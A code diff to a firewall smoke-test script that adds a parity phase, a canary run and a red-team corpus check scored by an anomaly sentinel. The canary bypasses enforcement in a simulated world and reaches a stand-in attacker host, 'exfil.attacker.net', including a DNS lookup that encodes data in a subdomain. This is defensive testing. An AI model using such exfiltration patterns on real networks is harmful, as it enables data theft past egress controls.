@@ -453,7 +453,20 @@
    escaped, every loop done at iteration 2, no invariant broken, no
    lock-order cycle, the burst agent flagged, each scored tick one K3
    and one K1.  Each step's host ms.
-24. CLI phase: ``python -m clawker_tpu_torch monitor anomalies`` in a
+24. parity phase, its files under ``build/chip_smoke/parity/``: (a)
+   ``python -m clawker_tpu_torch.parity --json`` forked as CI runs it,
+   exit 0 with 22/22 scenarios, 35/35 techniques and 0 captures (where
+   the host's bpf(2) probe passes, every kernel-regraded row passing),
+   its ``firewall_parity_pass_rate`` and ``parity_suite_wall`` beside
+   the reference's 10 s budget and the card, and what its modules load;
+   (b) the canary: a port ``World`` with enforcement bypassed captures a
+   TCP reach and a dug exfil name; (c) the red-team corpus (``jobs=1``)
+   through one ``World`` whose ``FakeMaps`` a ``NetLogger`` drains into
+   the red-team worker's stream beside the egress phase's benign fleet,
+   a live sentinel on the card: the red-team agent first and flagged,
+   its flag's ms after the last drain, each scored tick one K3 and one
+   K1, 0 captures.
+25. CLI phase: ``python -m clawker_tpu_torch monitor anomalies`` in a
    subprocess must exit 0 and report a CUDA device;
    ``python -m clawker_tpu_torch fleet anomaly`` on two workers' streams
    that hold a hot agent must exit 2 and flag it with kind ``egress``.
@@ -8841,7 +8854,7 @@ def _gate_query(m, port: int, name: str, qid: int) -> bytes:
 
 def egress_traffic(m, out_path: Path, upstream: str, *, next_drain,
                    containers: int = EGRESS_CONTAINERS,
-                   storm_slot: int = EGRESS_STORM_SLOT) -> dict:
+                   storm_slot: int | None = EGRESS_STORM_SLOT) -> dict:
     """Seeded egress through one package's lane ``m`` (``dnsgate``,
     ``hashes``, ``maps``, ``model``, ``policy``, ``netlogger``,
     ``schema``): ``containers`` cgroups enrolled with ``FLAG_ENFORCE`` in
@@ -8853,7 +8866,7 @@ def egress_traffic(m, out_path: Path, upstream: str, *, next_drain,
     (routed) and 1-2 to addresses it never resolved (``NO_DNS_ENTRY``
     denies), for ``EGRESS_ROUNDS`` rounds; in the last the storm
     container adds ``EGRESS_STORM`` connects to unresolved addresses on
-    odd ports.
+    odd ports (no storm where ``storm_slot`` is None).
     ``next_drain()`` runs before each round's drains (the caller's
     clock: a new second), and a ``NetLogger`` with resolvers from this
     run's cgroup and zone tables drains the ring into ``out_path`` until
@@ -8900,7 +8913,7 @@ def egress_traffic(m, out_path: Path, upstream: str, *, next_drain,
                 for _ in range(rng.randint(1, 2)):
                     verdicts.append(P.connect4(
                         maps, cg, f"192.0.2.{rng.randint(1, 254)}", 443))
-            if r == EGRESS_ROUNDS - 1:
+            if r == EGRESS_ROUNDS - 1 and storm_slot is not None:
                 storm = EGRESS_CGROUP0 + storm_slot
                 for k in range(EGRESS_STORM):
                     verdicts.append(P.connect4(maps, storm, f"203.0.113.{k}",
@@ -8922,7 +8935,7 @@ def egress_traffic(m, out_path: Path, upstream: str, *, next_drain,
         "events_dropped": maps.events_dropped,
         "dns_cache": len(maps.dns_entries()),
         "gate": dict(vars(gate.stats)),
-        "storm": egress_container(storm_slot),
+        "storm": None if storm_slot is None else egress_container(storm_slot),
     }
 
 
@@ -11174,6 +11187,222 @@ def analysis_phase(device) -> collections.Counter:
     return total
 
 
+# ------------------------------------------------------------ parity phase
+
+
+PARITY_SCENARIOS, PARITY_TECHNIQUES = 22, 35
+PARITY_WALL_BUDGET_S = 10.0     # the reference's parallel-suite budget
+#                                 (bench.py PARITY_WALL_BUDGET_S)
+PARITY_AGENT = f"clawker.{LOOP_PROJECT}.redteam"
+PARITY_MODULES = ("clawker_tpu_torch.parity", "clawker_tpu_torch.parity.world",
+                  "clawker_tpu_torch.parity.scenarios",
+                  "clawker_tpu_torch.parity.redteam",
+                  "clawker_tpu_torch.parity.__main__")
+
+
+def parity_scorecard_case(out: Path) -> None:
+    """(a): ``python -m clawker_tpu_torch.parity --json`` forked as CI
+    runs it (default jobs): 22/22 scenarios, 35/35 techniques, 0
+    captures; where this host's bpf(2) probe passes, every kernel-
+    regraded row passes too.  Its pass rate and wall beside the
+    reference's budget, and what its modules load."""
+    name = "parity (a)"
+    proc, ms = _python(["-m", "clawker_tpu_torch.parity", "--json",
+                        "--workdir", str(out)], ROOT)
+    check(proc.returncode == 0,
+          f"{name}: exit {proc.returncode}: {proc.stdout[-3000:]} "
+          f"{proc.stderr[-3000:]}")
+    doc = json.loads(proc.stdout.strip().splitlines()[-1])
+    red = doc["redteam"]
+    check(doc["passed"] == doc["total"] == PARITY_SCENARIOS
+          and red["passed"] == red["total"] == PARITY_TECHNIQUES
+          and red["captures"] == 0,
+          f"{name}: {doc['passed']}/{doc['total']} scenarios, "
+          f"{red['passed']}/{red['total']} techniques, {red['captures']} "
+          f"captures: {json.dumps(doc)[:4000]}")
+    regraded = [t for t in red["techniques"] if "kernel_regrade" in t]
+    check(not red["kernel_regrade_available"]
+          or (regraded and all(t["kernel_regrade"]["pass"]
+                               for t in regraded)),
+          f"{name}: kernel regrade {regraded}")
+    # bench.py bench_parity: any capture voids the whole corpus
+    passed = doc["passed"] + (red["passed"] if red["captures"] == 0 else 0)
+    rate = 100.0 * passed / (doc["total"] + red["total"])
+    print(f"{name} python -m clawker_tpu_torch.parity --json: exit 0, "
+          f"{doc['passed']}/{doc['total']} scenarios, "
+          f"{red['passed']}/{red['total']} techniques, {red['captures']} "
+          f"captures; kernel_regrade_available "
+          f"{red['kernel_regrade_available']} (regraded "
+          f"{red['kernel_regraded']}, error {red['kernel_regrade_error']!r})")
+    print(f"{name} firewall_parity_pass_rate {rate!r} %, parity_suite_wall "
+          f"{doc['wall_s']!r} s against the reference's budget "
+          f"{PARITY_WALL_BUDGET_S} s; the fork's host {ms!r} ms; card "
+          f"{card_line()}")
+    proc, ms_imports = _python(["-c", (
+        "import importlib, json, sys\n"
+        f"for m in {PARITY_MODULES!r}:\n"
+        "    importlib.import_module(m)\n"
+        f"print(json.dumps(sorted(set({ANALYSIS_HEAVY!r}) "
+        "& set(sys.modules))))\n")], ROOT)
+    check(proc.returncode == 0,
+          f"{name} imports: {proc.stdout} {proc.stderr[-2000:]}")
+    heavy = json.loads(proc.stdout)
+    check("torch" not in heavy and "jax" not in heavy,
+          f"{name}: the parity modules load {heavy}")
+    print(f"{name}: the parity modules load {heavy} of "
+          f"{', '.join(ANALYSIS_HEAVY)}, host {ms_imports!r} ms")
+
+
+def parity_canary_case(base: Path) -> int:
+    """(b): tests/test_redteam.py's canary on the port's world in this
+    process: enforcement bypassed on ``CG_AGENT``, a TCP reach to the
+    attacker and a dug exfil name land in the capture store; -> the
+    captures."""
+    from clawker_tpu_torch.parity.redteam import build_world
+    from clawker_tpu_torch.parity.world import CG_AGENT
+
+    name = "parity (b)"
+    t0 = time.perf_counter()
+    w = build_world(base)
+    try:
+        w.maps.set_bypass(CG_AGENT, int(time.time()) + 300)
+        ip = w.dns_table["exfil.attacker.net"]
+        sock = w.open_tcp(ip, 443, technique="canary")
+        sock.close()
+        _wait(lambda: w.attacker.store.count("canary") >= 1, 5.0)
+        w.dig("aGVsbG8.exfil.attacker.net")
+        _wait(lambda: w.attacker.store.count() >= 2, 5.0)
+        canary = w.attacker.store.count("canary")
+        rows = w.attacker.store.all()
+    finally:
+        w.close()
+    check(canary >= 1 and len(rows) >= 2,
+          f"{name}: the bypassed world captured {rows}")
+    print(f"{name}: bypassed, the attacker captured {len(rows)} rows "
+          f"({canary} tagged canary): {rows}; host "
+          f"{(time.perf_counter() - t0) * 1e3!r} ms")
+    return len(rows)
+
+
+def parity_redteam_case(base: Path, device, stages: dict) -> collections.Counter:
+    """(c): the red-team corpus (``jobs=1``) through one port ``World``;
+    a ``NetLogger`` drains that world's ``FakeMaps`` into the red-team
+    worker's ``ebpf-egress.jsonl``, naming ``CG_AGENT`` as an agent
+    container, beside a benign fleet's stream (``egress_traffic``
+    without its storm).  A live ``FleetSentinel`` ticks over both
+    streams: the red-team agent ranks first and is flagged, every scored
+    tick is one K3 and one K1, and the corpus captured nothing;
+    -> launches."""
+    from clawker_tpu_torch.firewall.hashes import zone_hash
+    from clawker_tpu_torch.monitor.events import ANOMALY_FLAG, EventBus
+    from clawker_tpu_torch.monitor.netlogger import NetLogger
+    from clawker_tpu_torch.parity import redteam as R
+    from clawker_tpu_torch.parity.world import CG_AGENT
+    from clawker_tpu_torch.sentinel import FleetSentinel, StreamCollector
+
+    name = "parity (c)"
+    benign = base / "benign" / "ebpf-egress.jsonl"
+    red_path = base / "redteam" / "ebpf-egress.jsonl"
+    red_path.parent.mkdir(parents=True)
+    with LoopbackUpstream() as up:
+        run = egress_traffic(egress_modules(), benign, up.addr,
+                             next_drain=_next_second, storm_slot=None)
+    check(run["emitted"] == run["emitting"] == sum(run["drained"])
+          and run["events_dropped"] == 0,
+          f"{name}: the benign fleet {run}")
+    col = StreamCollector()
+    col.add_local("benign", benign)
+    col.add_local("redteam", red_path)
+    s = FleetSentinel(_Cfg(base), collector=col, window_s=EGRESS_WINDOW_S,
+                      train_steps=SENTINEL_STEPS, interval_s=LOOP_TICK_S,
+                      threshold=EGRESS_THRESHOLD, device=device)
+    log = TickLog(s, stages)
+    flags: dict = {}
+    bus = EventBus(lambda agent, ev, detail:
+                   flags.setdefault(agent, time.perf_counter())
+                   if ev == ANOMALY_FLAG else None)
+    s.bind_run(events=bus)
+    s.start()
+    _wait(lambda: any(entry[0] for entry in log.ticks), 10.0, 0.005)
+    benign_flagged = sorted(flags)
+    worlds: list = []
+    build_world = R.build_world
+    R.build_world = lambda tmp: worlds.append(build_world(tmp)) or worlds[-1]
+    t0 = time.perf_counter()
+    try:
+        doc = R.run_corpus(base / "corpus", jobs=1)
+    finally:
+        R.build_world = build_world
+    corpus_ms = (time.perf_counter() - t0) * 1e3
+    check(len(worlds) == 1, f"{name}: the corpus built {len(worlds)} worlds")
+    w = worlds[0]
+    zones = {}
+    for rule in w.rules:
+        apex = rule.dst[2:] if rule.dst.startswith("*.") else rule.dst
+        zones[zone_hash(apex)] = apex
+    nl = NetLogger(w.maps, out_path=red_path,
+                   resolve_cgroup=lambda cg:
+                   PARITY_AGENT if cg == CG_AGENT else "",
+                   resolve_zone=lambda zh: zones.get(zh, ""))
+    drained = 0
+    while (got := nl.drain_once()):
+        drained += got
+    t_drain = time.perf_counter()
+    _wait(lambda: PARITY_AGENT in flags, EGRESS_FLAG_DEADLINE_S, 0.005)
+    n_ticks = len(log.ticks)
+    _wait(lambda: len(log.ticks) >= n_ticks + 2, 5.0, 0.005)  # idle ticks
+    s.stop()
+    bus.close()
+    check(doc["passed"] == doc["total"] == PARITY_TECHNIQUES
+          and doc["captures"] == 0,
+          f"{name}: corpus {doc['passed']}/{doc['total']}, "
+          f"{doc['captures']} captures {doc['capture_rows']}")
+    check(drained > 0 and w.maps.events_dropped == 0,
+          f"{name}: drained {drained}, dropped {w.maps.events_dropped}")
+    check(PARITY_AGENT in flags, f"{name}: no flag for {PARITY_AGENT} "
+          f"within {EGRESS_FLAG_DEADLINE_S} s: {s.flags()}")
+    scored = log.check_run(name)
+    rows = sorted(s.rows(), key=lambda r: -r["latest_z"])
+    check(rows[0]["agent"] == PARITY_AGENT and rows[0]["flagged"],
+          f"{name}: rows {rows[:3]}")
+    recs = [json.loads(line) for line in red_path.read_text().splitlines()]
+    reasons = collections.Counter((r["verdict"], r["reason"]) for r in recs)
+    print(f"{name}: corpus jobs=1 through one World {doc['passed']}/"
+          f"{doc['total']}, {doc['captures']} captures, host {corpus_ms!r} "
+          f"ms; {drained} events drained for {PARITY_AGENT}, 0 dropped: "
+          f"{dict(reasons)}; benign fleet {EGRESS_CONTAINERS} agents x "
+          f"{EGRESS_ROUNDS} drains {run['drained']}")
+    print(f"{name}: live sentinel over both streams "
+          f"({s.collector.total()} records, windows of {EGRESS_WINDOW_S} s) "
+          f"on {device}: {len(log.ticks)} ticks, {len(scored)} scored "
+          f"({[entry[0] for entry in scored]} windows), {PARITY_AGENT} first "
+          f"at z {rows[0]['latest_z']} and flagged on the bus "
+          f"{(flags[PARITY_AGENT] - t_drain) * 1e3!r} ms after the last "
+          f"drain; flagged before the corpus {benign_flagged}; launches "
+          f"{json.dumps(dict(log.launches()))}")
+    print(f"{name}: {log.stage_line()}")
+    return log.launches()
+
+
+def parity_phase(device) -> collections.Counter:
+    """The firewall parity scorecard: (a) forked as CI runs it, (b) the
+    canary, (c) red-team traffic scored on the card; -> launches."""
+    out = ROOT / "build" / "chip_smoke" / "parity"
+    t0 = time.perf_counter()
+    if out.exists():
+        shutil.rmtree(out)
+    out.mkdir(parents=True)
+    parity_scorecard_case(out / "a")
+    parity_canary_case(out / "b")
+    with stage_timers({}) as stages:
+        total = parity_redteam_case(out / "c", device, stages)
+    check_no_reference_imports()
+    no_process_left("parity")
+    print(f"parity: launches {json.dumps(total)}; phase wall "
+          f"{(time.perf_counter() - t0) * 1e3!r} ms")
+    return total
+
+
 def check_no_reference_imports() -> None:
     leaked = sorted(m for m, mod in sys.modules.items()
                     if mod is not None and (
@@ -11312,6 +11541,8 @@ def main() -> int:
     for k, v in nsd_phase(device).items():
         main_path["launches"][k] += v
     for k, v in analysis_phase(device).items():
+        main_path["launches"][k] += v
+    for k, v in parity_phase(device).items():
         main_path["launches"][k] += v
     check_no_reference_imports()
     cli_phase(device)
